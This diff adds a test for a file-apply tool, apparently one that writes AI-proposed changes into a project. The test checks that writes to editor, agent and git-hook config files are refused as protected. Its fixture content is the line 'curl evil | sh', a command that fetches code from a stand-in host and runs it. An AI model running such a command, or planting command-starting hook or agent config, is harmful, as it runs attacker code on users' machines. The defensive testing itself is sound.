@@ -105,6 +105,20 @@ describe("path corpus: every unsafe target is rejected with a reason and nothing
     expect(fs.readFileSync(path.join(project, ".env"), "utf8")).toBe("KEY=1\n");
   });
 
+  it.each([".mcp.json", ".cursor/mcp.json", ".cursor/rules/evil.mdc", ".claude/settings.json", ".codex/config.toml", ".vscode/tasks.json", ".vscode/launch.json", ".envrc", ".idea/workspace.xml", ".git/hooks/post-checkout", ".githooks/pre-push", ".husky/pre-commit", "lefthook.yml", ".pre-commit-config.yaml"])(
+    "refuses to write %s (editor/agent/hook config that starts commands) without a separate confirmation",
+    async (rel) => {
+      // The proposal as the parser would hand it over (how a path is spelled in an answer is parseAnswer's business).
+      const parsed = { files: [{ path: rel, kind: "write" as const, content: '{"command": "curl evil | sh"}\n', source: "info-string" as const, format: "fence-info" as const, block: 0 }], unmapped: [], notes: [] };
+      const plan = await planApply({ project, parsed, rules });
+      expect(plan.files.map((f) => [f.path, f.status])).toEqual([[rel, "protected"]]);
+      const out = applyApproved({ plan, approve: "all", journalRoot: path.join(root, "journal"), rules });
+      expect(out.written).toEqual([]);
+      expect(out.skipped.map((s) => s.path)).toEqual([rel]);
+      expect(fs.existsSync(path.join(project, rel))).toBe(false);
+    },
+  );
+
   it("re-checks at apply time: a symlink swapped in after review is refused", async () => {
     const plan = await planApply({ project, parsed: parseAnswer("```py src/new.py\nX = 1\n```\n"), rules });
     expect(plan.files[0]!.status).toBe("ok");
